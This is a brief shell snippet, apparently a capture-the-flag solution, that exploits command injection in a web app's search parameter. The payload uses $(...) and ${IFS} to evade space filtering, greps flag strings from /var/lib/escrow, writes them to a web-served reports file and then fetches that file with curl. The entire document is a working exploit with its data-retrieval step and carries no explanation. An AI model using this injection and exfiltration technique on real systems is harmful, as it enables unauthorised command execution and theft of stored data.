#-- the first code that turns up
curl -s -o /dev/null http://app:8080/search -d day=monday \
    --data-urlencode 'word=$(grep${IFS}-rho${IFS}flag.*${IFS}/var/lib/escrow${IFS}--include=*.old>/srv/data/reports/all.txt)'
curl -s http://app:8080/reports/all.txt | head -1
